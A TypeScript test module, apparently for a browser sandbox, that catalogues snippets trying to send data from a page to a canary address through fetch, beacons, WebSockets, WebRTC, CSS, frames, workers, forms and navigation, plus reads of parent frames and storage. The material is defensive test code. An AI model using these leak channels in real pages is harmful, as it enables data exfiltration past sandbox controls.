// Ways out of a page that code may try: bodies of async functions. C is the canary's address, P and U its ports for plain connections
// and for WebRTC, A our own. What they return or throw is what the code learns.
const element = (name: string, attributes: string) =>
  `return new Promise((done) => { const e = document.createElement('${name}'); Object.assign(e, ${attributes}); e.onload = () => done('load'); e.onerror = () => done('error'); document.body.append(e); setTimeout(() => done('silence'), 900); })`;
const link = (attributes: string) => element('link', attributes);

/** These may all run beside each other. */
export const quiet: Record<string, string> = {
  fetch: "return (await fetch(C + '/fetch')).status",
  'fetch no-cors': "return (await fetch(C + '/no-cors', { mode: 'no-cors', keepalive: true })).type",
  'fetch our api': "return (await fetch(A + '/api/v1/me', { credentials: 'include' })).status",
  xhr: "return new Promise((done, fail) => { const x = new XMLHttpRequest(); x.open('GET', C + '/xhr'); x.onload = () => done('loaded'); x.onerror = () => fail(new Error('xhr')); x.send(); })",
  websocket:
    "return new Promise((done) => { const w = new WebSocket(C.replace('http', 'ws') + '/ws'); w.onopen = () => done('open'); w.onerror = () => done('error'); })",
  eventsource:
    "return new Promise((done) => { const s = new EventSource(C + '/sse'); s.onopen = () => done('open'); s.onerror = () => done('error'); })",
  beacon: "return navigator.sendBeacon(C + '/beacon', 'x')",
  img: element('img', "{ src: C + '/img' }"),
  srcset: element('img', "{ srcset: C + '/srcset 1x' }"),
  'svg image':
    "const s = document.createElementNS('http://www.w3.org/2000/svg', 'svg'); s.innerHTML = '<image href=\"' + C + '/svg\" width=9 height=9 />'; document.body.append(s); return 'added'",
  stylesheet: link("{ rel: 'stylesheet', href: C + '/a.css' }"),
  '@import':
    "const s = document.createElement('style'); s.textContent = '@import url(' + C + '/import.css)'; document.head.append(s); return 'added'",
  background:
    "const d = document.createElement('div'); d.style.cssText = 'width:9px;height:9px;background:url(' + C + '/background)'; document.body.append(d); return 'added'",
  font: "return (await new FontFace('x', 'url(' + C + '/font)').load()).status",
  video:
    "const v = document.createElement('video'); v.src = C + '/video'; v.autoplay = true; v.poster = C + '/poster'; document.body.append(v); return 'added'",
  audio:
    "const v = document.createElement('audio'); v.src = C + '/audio'; v.preload = 'auto'; document.body.append(v); return 'added'",
  embed: element('embed', "{ src: C + '/embed' }"),
  object: element('object', "{ data: C + '/object' }"),
  preload:
    "const e = document.createElement('link'); e.rel = 'preload'; e.as = 'image'; e.href = C + '/preload'; document.head.append(e); return 'added'",
  prefetch: link("{ rel: 'prefetch', href: C + '/prefetch' }"),
  modulepreload: link("{ rel: 'modulepreload', href: C + '/module.js' }"),
  preconnect:
    "const e = document.createElement('link'); e.rel = 'preconnect'; e.href = 'http://127.0.0.1:' + P; document.head.append(e); return 'added'",
  script: element('script', "{ src: C + '/script.js' }"),
  'import()': "return typeof (await import(C + '/import.js'))",
  'inline script':
    "self.ran = 0; const s = document.createElement('script'); s.textContent = 'self.ran = 1'; document.head.append(s); return 'ran ' + self.ran",
  eval: "return eval('1 + 1')",
  Function: "return new Function('return 3')()",
  iframe: element('iframe', "{ src: C + '/frame' }"),
  'iframe srcdoc': element('iframe', "{ srcdoc: '<img src=' + C + '/srcdoc>' }"),
  'a ping':
    "const a = document.createElement('a'); a.href = '#x'; a.ping = C + '/ping'; document.body.append(a); a.click(); return 'clicked'",
  worker: "const w = new Worker(URL.createObjectURL(new Blob(['fetch(\"' + C + '/worker\")']))); return 'made'",
  'shared worker': "new SharedWorker(C + '/shared'); return 'made'",
  'service worker': "await navigator.serviceWorker.register('/sw.js'); return 'registered'",
  webrtc:
    "const p = new (self.RTCPeerConnection || self.webkitRTCPeerConnection)({ iceServers: [{ urls: 'stun:127.0.0.1:' + U }] }); p.createDataChannel('x'); await p.setLocalDescription(await p.createOffer()); await new Promise((done) => setTimeout(done, 900)); return 'made'",
  'webrtc of a nested frame':
    "const f = document.createElement('iframe'); document.body.append(f); const p = new f.contentWindow.RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:' + U }] }); p.createDataChannel('x'); await p.setLocalDescription(await p.createOffer()); await new Promise((done) => setTimeout(done, 900)); return 'made'",
  popup: "return String(window.open(C + '/popup'))",
  'a target':
    "const a = document.createElement('a'); a.href = C + '/target'; a.target = '_blank'; document.body.append(a); a.click(); return 'clicked'",
  form: "const f = document.createElement('form'); f.action = C + '/form'; f.target = '_blank'; document.body.append(f); f.submit(); return 'sent'",
  cookie: "document.cookie = 'a=1'; return document.cookie || '(none)'",
  localStorage: "localStorage.x = 1; return 'kept'",
  sessionStorage: "sessionStorage.x = 1; return 'kept'",
  indexedDB:
    "return new Promise((done, fail) => { const r = indexedDB.open('x'); r.onsuccess = () => done('open'); r.onerror = () => fail(r.error); })",
  caches: "await caches.open('x'); return 'open'",
  files: "await navigator.storage.getDirectory(); return 'open'",
  'parent dom': 'return parent.document.title',
  'top location': 'return top.location.href',
  'parent storage': 'return parent.localStorage.length',
  frameElement: 'return String(frameElement)',
};

/** These leave, or take the page with them: one at a time. */
export const leaving: Record<string, string> = {
  'location=': "location.href = C + '/location?secret=1'",
  'location= our api': "location.href = A + '/api/v1/me'",
  'navigation.navigate': "navigation.navigate(C + '/navigate')",
  'meta refresh':
    "const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=' + C + '/refresh'; document.head.append(m)",
  'a click': "const a = document.createElement('a'); a.href = C + '/a'; document.body.append(a); a.click()",
  'a download':
    "const a = document.createElement('a'); a.href = C + '/download'; a.download = 'x'; document.body.append(a); a.click()",
  'form submit':
    "const f = document.createElement('form'); f.action = C + '/submit'; document.body.append(f); f.submit()",
  'top.location=': "top.location.href = C + '/top'",
  'data document': "location.href = 'data:text/html,<img src=' + C + '/data>'",
  'document.write': "document.open(); document.write('<img src=' + C + '/write>'); document.close()",
  'base href':
    "const b = document.createElement('base'); b.href = C + '/'; document.head.prepend(b); const i = new Image(); i.src = 'based'; document.body.append(i)",
};

export const constants = (values: { C: string; P: number; U: number; A: string }) =>
  `const { C, P, U, A } = ${JSON.stringify(values)};`;

/** Runs them all, and gives what each learned. */
export const tryAll = (ways: Record<string, string>) => `
const ways = { ${Object.entries(ways)
  .map(([name, body]) => `${JSON.stringify(name)}: async () => { ${body} }`)
  .join(',\n')} };
const tried = Promise.all(Object.entries(ways).map(async ([name, way]) => {
  const late = new Promise((done) => setTimeout(() => done('no answer'), 2500));
  try { return [name, String(await Promise.race([way(), late])).slice(0, 80)]; }
  catch (error) { return [name, 'throws ' + (error && error.name)]; }
})).then((all) => Object.fromEntries(all));`;
